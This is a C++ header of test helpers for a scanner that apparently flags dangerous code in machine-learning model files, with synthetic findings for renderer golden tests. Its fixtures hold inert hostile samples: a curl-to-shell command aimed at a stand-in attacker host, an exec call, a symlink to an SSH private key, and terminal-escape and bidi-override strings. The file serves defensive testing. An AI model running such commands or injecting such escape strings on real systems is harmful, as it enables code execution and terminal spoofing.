// Shared by the renderer tests: synthetic reports (no analyzer involved) and golden files in
// tests/unit/render_golden/. MODELGATE_UPDATE_GOLDEN=1 rewrites the goldens instead of comparing.
#pragma once

#include <gtest/gtest.h>
#include <sys/wait.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>

#include <unistd.h>

#include "report/report.h"
#include "support/test_paths.h"

namespace mg::test {

inline bool UpdatingGoldens() {
  const char* update = std::getenv("MODELGATE_UPDATE_GOLDEN");
  return update != nullptr && std::string(update) == "1";
}

// Compares `actual` with the golden file at `path`, or rewrites it when updating goldens.
inline void ExpectMatchesFile(const std::filesystem::path& path, const std::string& actual) {
  if (UpdatingGoldens()) {
    std::filesystem::create_directories(path.parent_path());
    std::ofstream(path, std::ios::binary) << actual;
    return;
  }
  ASSERT_TRUE(std::filesystem::exists(path))
      << path << " is missing; run the tests with MODELGATE_UPDATE_GOLDEN=1 to create it";
  EXPECT_EQ(ReadFile(path), actual)
      << "output differs from " << path
      << "; if the change is intended, rerun with MODELGATE_UPDATE_GOLDEN=1 and review the diff";
}

inline std::filesystem::path RenderGolden(const std::string& name) {
  return SourceDir() / "tests" / "unit" / "render_golden" / name;
}

inline Finding MakeFinding(std::string rule, Severity severity, std::string message,
                           std::string path, std::vector<std::string> member = {},
                           std::optional<std::uint64_t> offset = std::nullopt,
                           std::string evidence = {}) {
  Finding finding;
  finding.rule = std::move(rule);
  finding.severity = severity;
  finding.message = std::move(message);
  finding.location.path = std::move(path);
  finding.location.member = std::move(member);
  finding.location.offset = offset;
  finding.evidence = std::move(evidence);
  return finding;
}

inline Target MakeTarget(std::string path, std::string format, std::uint64_t size,
                         TargetStatus status = TargetStatus::kComplete) {
  Target target;
  target.path = std::move(path);
  target.format = std::move(format);
  target.size = size;
  // A stand-in digest: renderers copy it and never check it.
  target.sha256 = std::string(64, 'a');
  target.status = status;
  return target;
}

// Several targets covering every shape a renderer meets: findings of every severity in
// analyzer order, member chains, offsets set and null, incomplete and error status, a file
// without findings, an info-only file and an escaping symlink (never read: no digest).
inline Report MixedReport() {
  Report report;
  Target evil = MakeTarget("models/evil.pkl", "pickle", 1234);
  evil.findings.push_back(MakeFinding("PICKLE-UNKNOWN-GLOBAL", Severity::kMedium,
                                      "Imports mymodule.Model, which is not known to be safe.",
                                      evil.path, {}, 2, "mymodule.Model"));
  evil.findings.push_back(MakeFinding("PICKLE-DANGEROUS-CALL", Severity::kCritical,
                                      "Calls os.system, which runs a shell command.", evil.path,
                                      {}, 42, "os.system('curl https://attacker.invalid/x | sh')"));
  evil.findings.push_back(MakeFinding("PICKLE-PROTOCOL", Severity::kInfo,
                                      "Pickle protocol 4.", evil.path, {}, 0));
  report.targets.push_back(std::move(evil));

  Target archive = MakeTarget("models/model.pt", "zip", 3 * 1024 * 1024 + 5,
                              TargetStatus::kIncomplete);
  archive.findings.push_back(MakeFinding("PICKLE-DANGEROUS-CALL", Severity::kHigh,
                                         "Calls builtins.exec on a string.", archive.path,
                                         {"archive/data.pkl"}, 10, "builtins.exec('import os')"));
  archive.findings.push_back(MakeFinding("SCAN-LIMIT-DEPTH", Severity::kMedium,
                                         "Embedded payload 'c.zip' is nested deeper than 2 "
                                         "levels and was not analysed.",
                                         archive.path, {"a.zip", "b.zip"}));
  report.targets.push_back(std::move(archive));

  report.targets.push_back(MakeTarget("models/clean.pkl", "pickle", 120));

  Target config = MakeTarget("models/config.json", "unknown", 2048);
  config.findings.push_back(MakeFinding(
      "SCAN-UNRECOGNIZED-FORMAT", Severity::kInfo,
      "The content matches no model format that can carry code; it was not analysed.",
      config.path, {}, 0));
  report.targets.push_back(std::move(config));

  Target unreadable;
  unreadable.path = "models/secret.bin";
  unreadable.format = "unknown";
  unreadable.status = TargetStatus::kError;
  unreadable.findings.push_back(MakeFinding(
      "SCAN-IO-ERROR", Severity::kMedium,
      "The file could not be read: cannot open models/secret.bin: Permission denied.",
      unreadable.path));
  report.targets.push_back(std::move(unreadable));

  Target link;
  link.path = "models/weights.bin";
  link.format = "symlink";
  link.findings.push_back(MakeFinding("SCAN-SYMLINK-ESCAPE", Severity::kHigh,
                                      "This symbolic link points outside the scanned folder.",
                                      link.path, {}, std::nullopt, "-> /home/user/.ssh/id_rsa"));
  report.targets.push_back(std::move(link));
  return report;
}

// Strings an attacker controls, carrying terminal escapes, C1 controls, bidi overrides,
// invalid UTF-8, line breaks and a very long evidence string.
inline Report HostileReport() {
  Report report;
  const std::string path = "up/\x1b]0;pwned\x07name\nwith\tbreaks.pkl";
  Target target = MakeTarget(path, "pickle", 10);
  const std::string long_evidence = "os.system('" + std::string(3000, 'A') + "')";
  target.findings.push_back(MakeFinding(
      "PICKLE-DANGEROUS-CALL", Severity::kCritical, "Calls os.system.", path,
      {"dir/\x1b[2Jclear.pkl", "caf\xc3\xa9 \xe2\x80\xae" "gnp.pkl"}, 7,
      "os.system('\x1b[31mred \xc2\x9b" "31m \xff\xfe raw\r\x7f')"));
  target.findings.push_back(MakeFinding("PICKLE-DANGEROUS-CALL", Severity::kCritical,
                                        "Calls os.system.", path, {}, 99, long_evidence));
  report.targets.push_back(std::move(target));
  return report;
}

}  // namespace mg::test

namespace mg::test {

struct SchemaCheck {
  bool skipped = false;  // python3 or its jsonschema module is missing
  bool valid = false;
  std::string output;
};

// Runs tests/unit/validate_json_schema.py on `document` (written to a temporary file).
inline SchemaCheck ValidateAgainstSchema(const std::filesystem::path& schema,
                                         const std::string& document, const std::string& name) {
  SchemaCheck check;
  // ctest runs tests as parallel processes: the file name must be this process's own.
  const std::filesystem::path doc_path = std::filesystem::path(testing::TempDir()) /
                                         ("modelgate_" + std::to_string(::getpid()) + "_" + name);
  std::ofstream(doc_path, std::ios::binary) << document;
  const auto script = SourceDir() / "tests" / "unit" / "validate_json_schema.py";
  const std::string command = "python3 '" + script.string() + "' '" + schema.string() + "' '" +
                              doc_path.string() + "' 2>&1";
  FILE* pipe = ::popen(command.c_str(), "r");
  if (pipe == nullptr) {
    check.skipped = true;
    return check;
  }
  char buffer[512];
  while (std::fgets(buffer, sizeof(buffer), pipe) != nullptr) check.output += buffer;
  const int status = ::pclose(pipe);
  const int code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  check.skipped = code == 77 || code == 127;  // 127: no python3
  check.valid = code == 0;
  std::filesystem::remove(doc_path);
  return check;
}

}  // namespace mg::test
